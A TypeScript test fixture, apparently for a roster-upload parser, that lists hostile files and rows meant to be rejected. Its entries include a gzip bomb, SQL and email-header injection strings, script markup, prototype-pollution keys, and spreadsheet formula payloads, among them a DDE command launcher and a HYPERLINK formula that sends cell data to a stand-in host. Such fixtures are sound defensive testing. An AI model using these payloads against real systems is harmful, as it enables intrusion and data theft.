import { gzipSync } from 'node:zlib'
import type { Named } from './strings.ts'

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)
const utf16 = (text: string): Uint8Array => new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'))
const bytes = (...values: number[]): Uint8Array => new Uint8Array(values)
const header = 'name,email,id,role\n'
const row = (cells: string): Uint8Array => utf8(`${header}${cells}\n`)

/** Files that are no roster, however they are called. */
const noRosters: readonly Named<Uint8Array>[] = [
  ['no byte', bytes()],
  ['one byte', bytes(0)],
  ['a mark of bytes alone', bytes(0xef, 0xbb, 0xbf)],
  ['half of UTF-16', bytes(0xff, 0xfe, 0x61)],
  ['UTF-32', bytes(0xff, 0xfe, 0, 0, 0x61, 0, 0, 0)],
  ['a PNG', bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d)],
  ['a workbook, which is a zip', bytes(0x50, 0x4b, 3, 4, 0x14, 0, 6, 0, 8, 0)],
  ['a PDF', utf8('%PDF-1.7\n\u0000\u0001')],
  ['a program', bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0)],
  ['a roster, compressed', new Uint8Array(gzipSync('email\nbo@school.example\n'))],
  ['a bomb of 100 MB', new Uint8Array(gzipSync(Buffer.alloc(100_000_000)))],
  ['bytes of no encoding', bytes(0xc3, 0x28, 0xa0, 0xdb, 0xfc, 0xfd, 0xff)],
  ['white space', utf8(' \n\t\n\r\n')],
  ['a header alone', utf8('name,email\n')],
  ['no header', utf8('bo@school.example\nbea@school.example\n')],
  ['a header of others', utf8('first,second\na,b\n')],
  ['delimiters alone', utf8(',,,,\n,,,,\n')],
  ['ten thousand columns', utf8(`${'c,'.repeat(10_000)}\n${'x,'.repeat(10_000)}\n`)],
  ['too many rows', utf8(`email\n${Array.from({ length: 5001 }, (_, at) => `a${at}@b.example`).join('\n')}`)],
  ['too many bytes', utf8(`email\n${'x'.repeat(900_000)}`)],
  ['a page', utf8('<html><body><table><tr><td>email</td></tr></table></body></html>')],
  ['JSON', utf8('[{"email":"bo@school.example"}]')],
  ['a line that never ends', utf8('x'.repeat(800_000))],
  ['a quote that never ends', utf8(`"${'x,\n'.repeat(100_000)}`)],
  ['a delimiter of one’s own, and nothing', utf8('sep=\u0001\n')],
  ['U+0000 in the header', utf8('em\0ail\nbo@school.example\n')],
  ['control characters', utf8('email\u0007\nbo@school.example\u001b\n')],
  ['UTF-16 of control characters', utf16('email\n\u0000\u0001\n')],
]

/** Rows that nobody could be invited by. */
const badRows: readonly Named<Uint8Array>[] = [
  ['no address', row('Bo,,1,')],
  ['a word for an address', row('Bo,bo,1,')],
  ['an address without a host', row('Bo,bo@,1,')],
  ['an address of two', row('Bo,a@b.example@c.example,1,')],
  ['an address with a header', row('Bo,"bo@school.example\nBcc: all@school.example",1,')],
  ['an address with a statement', row(`Bo,"bo'; DROP TABLE ""user""; --@school.example",1,`)],
  ['an address with markup', row('Bo,<script>@school.example,1,')],
  ['an address with a formula', row('Bo,=cmd|calc@x,1,')],
  ['an address of 300 characters', row(`Bo,${'b'.repeat(300)}@school.example,1,`)],
  ['an address with U+200B', row('Bo,bo\u200b@school.example,1,')],
  ['an address right to left', row('Bo,\u202ebo@school.example,1,')],
  ['an address in full width', row('Bo,ｂｏ＠school.example,1,')],
  ['several addresses', row('Bo,"a@b.example;c@d.example",1,')],
  ['a name with a person for an address', row('Bo,Bo <bo@school.example>,1,')],
  ['a name of 300 characters', row(`${'B'.repeat(300)},bo@school.example,1,`)],
  ['a name of marks', row(`B${'\u0301'.repeat(5000)},bo@school.example,1,`)],
  ['no name', row(',bo@school.example,1,')],
  ['a name of two lines', row('"Bo\nBea",bo@school.example,1,')],
  ['a name with half of UTF-16', utf16(`${header}B\ud800o,bo@school.example,1,\n`)],
  ['a number of 100 characters', row(`Bo,bo@school.example,${'1'.repeat(100)},`)],
  ['a number of two lines', row('Bo,bo@school.example,"1\n2",')],
  ['the role of an admin', row('Bo,bo@school.example,1,admin')],
  ['a role of the prototype', row('Bo,bo@school.example,1,constructor')],
  ['a role of SQL', row(`Bo,bo@school.example,1,"student'); --"`)],
  ['more cells than columns', row('Bo,bo@school.example,1,student,admin,admin')],
  ['a quote in the middle', row('Bo "the" ,"bo@school.example" x,1,')],
  ['columns that are called alike', utf8('email,email\n,bo@school.example\n')],
  ['a column of the prototype', utf8('__proto__,constructor,email\na,b,c\n')],
]

/** Files that are sent for rosters; nobody is awaited because of any of them. */
export const hostileRosters: readonly Named<Uint8Array>[] = [...noRosters, ...badRows]

/** Names that a spreadsheet takes for a formula, and that are names all the same. */
export const formulaNames: readonly string[] = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  `=HYPERLINK("https://evil.example?"&A1,"x")`,
  `=cmd|'/C calc'!A0`,
  '"=1+1"',
  '＝1+1',
  ' =1+1',
  '%0A=1+1',
]
